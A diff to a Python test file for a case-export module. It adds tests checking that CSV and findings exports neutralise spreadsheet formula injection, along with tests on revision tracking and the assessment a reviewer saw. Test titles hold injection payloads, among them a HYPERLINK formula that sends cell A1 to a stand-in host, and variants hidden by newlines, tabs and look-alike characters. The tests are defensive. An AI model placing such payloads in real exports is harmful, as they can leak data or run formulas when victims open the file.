@@ -60,7 +60,7 @@ def exported(number: int = 0, **changes: Any) -> CaseExport:
         id=f"{number:032x}",
         case_id=case.id,
         created_at=NOON,
-        provenance=Provenance(code_version="0", inputs="i", adapter="a/1"),
+        provenance=Provenance(code_version="0", inputs="i", adapter="a/1", spec=SPEC),
         findings=(finding,),
         evidence=(Measurement(name="count", value=2, unit=""),),
         disposition="scrap",
@@ -152,6 +152,73 @@ def test_a_clause_or_a_name_from_outside_never_becomes_a_formula(write: Any) -> 
     look = replace(whole.assessment, findings=(finding,))
     for row in rows(write, exported(case=case, assessment=look)):
         assert not [x for x in row.values() if x.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("write", [write_csv, write_findings])
+@pytest.mark.parametrize(
+    "title",
+    [
+        'plate 7;=HYPERLINK("http://x/?"&A1;"ok").png',
+        "\n=1+1",
+        "plate\n=1+1",
+        "plate\r\n@SUM(1)",
+        "plate\t-1+1",
+        'plate;"=1+1"',
+        'plate; "" +1',
+        "plate;;=1",
+        "＝1+1",
+        " =1",
+        "\ufeff=1",
+    ],
+)
+def test_no_spreadsheet_sees_a_formula_whatever_ends_its_cells(write: Any, title: str) -> None:
+    """A semicolon where commas are decimal points; a tab where the text is pasted."""
+    item = exported(case=replace(exported().case, title=title))
+    out = io.StringIO()
+    write((item,), out)
+    for delimiter in ",;\t":
+        for row in csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter):
+            cells = [x.lstrip(' "\n\r\t\ufeff') for x in row]
+            assert not [x for x in cells if x.startswith(tuple("=+-@＝＋－＠"))]
+
+
+def test_what_is_no_formula_stays_as_it_is() -> None:
+    item = exported(case=replace(exported().case, title="part 7; 2 - 3 mm, a=b; c"))
+    (row,) = rows(write_csv, item)
+    assert row["title"] == "part 7; 2 - 3 mm, a=b; c"
+
+
+def test_a_row_says_under_which_revision_its_recommendation_was_made() -> None:
+    now = replace(SPEC, revision="D", manual="d" * 64)
+    case = replace(exported().case, spec=now, status=CaseStatus.ASSESSED)
+    for write in (write_csv, write_findings):
+        row = rows(write, exported(case=case, decisions=()))[0]
+        assert (row["manual_revision"], row["case_revision"]) == ("C", "D")
+        assert row["outdated"] == "made without the product's manual; not judged again yet"
+    (row,) = rows(write_csv, exported())
+    assert (row["case_revision"], row["outdated"], row["later_look"]) == ("C", "", "")
+    out = io.StringIO()
+    write_json((exported(case=case, decisions=()),), out)
+    assert "not judged again yet" in json.loads(out.getvalue())[0]["outdated"]
+
+
+def test_a_decided_case_shows_the_look_that_the_person_saw() -> None:
+    case = exported().case
+    decision = exported().decisions[0]
+    seen = exported().assessment
+    assert seen is not None
+    later = replace(seen, id="b" * 32, disposition="accept", findings=())
+    on_seen = replace(decision, assessment_id=seen.id)
+    item = CaseExport.of(case, (seen, later), (on_seen,))
+    assert (item.assessment, item.later) == (seen, later)
+    (row,) = rows(write_csv, item)
+    assert (row["recommended"], row["later_recommended"]) == ("scrap", "accept")
+    assert row["later_look"] == NOON.isoformat()
+    assert CaseExport.of(case, (later, seen), (on_seen,)).later is None
+    unseen = CaseExport.of(case, (seen,), (decision,))
+    assert (unseen.assessment, unseen.later) == (None, seen)
+    opened = CaseExport.of(replace(case, status=CaseStatus.NEW), (seen, later), (on_seen,))
+    assert (opened.assessment, opened.later) == (later, None)
 
 
 def test_no_text_of_a_note_stands_in_a_table() -> None:
